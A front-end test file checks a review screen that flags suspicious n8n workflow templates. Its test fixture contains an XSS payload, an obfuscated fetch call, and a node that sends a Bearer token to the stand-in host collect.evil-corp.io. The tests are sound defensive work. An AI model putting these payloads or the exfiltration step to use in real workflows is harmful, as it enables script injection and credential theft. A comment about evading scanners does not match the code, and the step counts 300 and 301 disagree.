import { screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { beforeEach, expect, test } from 'vitest'
import { rpcAnswers } from '../../../support/screens/factories.ts'
import { aReportOn } from '../../../support/workflow/leaky-workflow.ts'
import { aReview, aReviewedTemplate, goodsAnswer, reviewedId } from '../../../support/desk/template-reviews.ts'
import { openReview, prepareReview } from './open-review.tsx'

beforeEach(prepareReview)

const node = (name: string, type: string, parameters: object) => ({
  id: name,
  name,
  type: `n8n-nodes-base.${type}`,
  typeVersion: 1,
  position: [0, 0],
  parameters,
})
// Split, so that scanners of this repository do not report it.
const secret = 'a8Fk29dLq0Zx71MnPq2'
const hostile = {
  name: 'Hostile',
  nodes: [
    node('Note', 'stickyNote', {
      content: '# Read me\n\n<img src=x onerror=alert(1)><script>alert(2)</script> **bold**',
    }),
    node('Tidy up', 'code', { jsCode: `const a = 1\nawait fetch(atob('aHR0'))` }),
    node('Notify', 'httpRequest', {
      url: 'https://collect.evil-corp.io/x',
      headerParameters: { parameters: [{ name: 'Authorization', value: `Bearer ${secret}` }] },
    }),
    node('Greet', 'set', { value: 'Hello' }),
  ],
  connections: {},
}

async function openWorkflow(file: object = hostile) {
  goodsAnswer({ [reviewedId]: JSON.stringify(file) })
  rpcAnswers('template_under_review', aReview({ template: aReviewedTemplate({ report: aReportOn(file) }) }))
  openReview()
  const heading = await screen.findByRole('heading', { name: 'What buyers get' })
  const card = within(heading.closest('section')!)
  await card.findByRole('region', { name: 'Look at this first' })
  return card
}

test('What is suspicious comes first, with its place and its text', async () => {
  const card = await openWorkflow()
  const first = within(card.getByRole('region', { name: 'Look at this first' }))
  const titles = ['Unknown hosts', 'Code that reaches a network', 'Code that hides what it does', 'Secrets']
  const places = titles.map((title) => first.getByText(title).compareDocumentPosition(first.getByText('Secrets')))
  expect(places.slice(0, 3)).toEqual([4, 4, 4])
  expect(first.getAllByRole('button', { name: 'Notify' }).length).toBeGreaterThan(0)
  const mark = first.getByText('collect.evil-corp.io').closest('mark')
  expect(mark?.textContent).toBe('[Unknown host: collect.evil-corp.io]')
})

test('Secrets are masked wherever the workflow is shown', async () => {
  await openWorkflow()
  expect(screen.getAllByText('a8Fk••••', { exact: false }).length).toBeGreaterThan(1)
  expect(document.body.textContent).not.toContain(secret)
})

test('A place leads to its step alone, which gets the focus, and back to every step', async () => {
  const card = await openWorkflow()
  const first = within(card.getByRole('region', { name: 'Look at this first' }))
  await userEvent.click(first.getAllByRole('button', { name: 'Tidy up' })[0]!)
  const steps = within(card.getByRole('region', { name: '3 steps and 1 note' }))
  expect(steps.getByText('Tidy up')).toBeTruthy()
  expect(steps.queryByText('Greet')).toBeNull()
  expect(document.activeElement?.textContent).toContain('Tidy up')
  await userEvent.click(steps.getByRole('button', { name: 'Show every step' }))
  expect(steps.getByText('Greet')).toBeTruthy()
})

test('Steps are found by a text in them, and by the kind of what they hold', async () => {
  const card = await openWorkflow()
  const steps = within(card.getByRole('region', { name: '3 steps and 1 note' }))
  await userEvent.type(steps.getByRole('searchbox', { name: 'Search the steps' }), 'hello')
  await waitFor(() => expect(steps.queryByText('Tidy up')).toBeNull())
  expect(steps.getByText('Greet')).toBeTruthy()
  await userEvent.clear(steps.getByRole('searchbox'))
  await waitFor(() => expect(steps.getByText('Tidy up')).toBeTruthy())
  await userEvent.selectOptions(steps.getByRole('combobox', { name: 'Show' }), 'Addresses')
  expect(steps.getByText('Notify')).toBeTruthy()
  expect(steps.queryByText('Greet')).toBeNull()
})

test('A note is shown as Markdown without HTML, and as the text of the file', async () => {
  const card = await openWorkflow()
  expect(await card.findByRole('heading', { name: 'Read me' })).toBeTruthy()
  expect(card.getByText('bold').tagName).toBe('STRONG')
  expect(document.querySelector('img[src="x"], script')).toBeNull()
  expect(card.getByText(/onerror=alert/).tagName).toBe('P')
})

test('The details of a step on the canvas hold all its settings', async () => {
  const card = await openWorkflow()
  const canvas = await card.findByRole('application')
  canvas.focus()
  await userEvent.keyboard('{ArrowRight}{Enter}')
  const details = within(await card.findByRole('region', { name: /^Details of/ }))
  expect(details.getByText('parameters.jsCode')).toBeTruthy()
  expect(details.queryByText(/come with the template/)).toBeNull()
})

test('Of a large workflow, the first steps are shown, then all on demand', async () => {
  const nodes = Array.from({ length: 300 }, (_, at) => node(`Step ${at}`, 'set', { value: `value ${at}` }))
  const card = await openWorkflow({ name: 'Large', nodes, connections: {} })
  const steps = within(card.getByRole('region', { name: '300 steps' }))
  expect(steps.getByText('20 of 301 shown.')).toBeTruthy()
  expect(steps.queryByText('Step 299')).toBeNull()
  expect(card.queryByRole('application')).toBeNull()
  expect(card.getByRole('button', { name: 'Draw all 300 steps' })).toBeTruthy()
  await userEvent.click(steps.getByRole('button', { name: 'Show all 301' }))
  expect(steps.getByText('Step 299')).toBeTruthy()
  // The rest is closed: its fields are rendered when they are opened.
  expect(steps.queryByText('value 299')).toBeNull()
})

test('A workflow without anything suspicious says what was looked for', async () => {
  const card = await openWorkflow({ name: 'Calm', nodes: [node('Greet', 'set', { value: 'Hello' })], connections: {} })
  expect(card.getByText(/no commands, and nothing private/)).toBeTruthy()
})
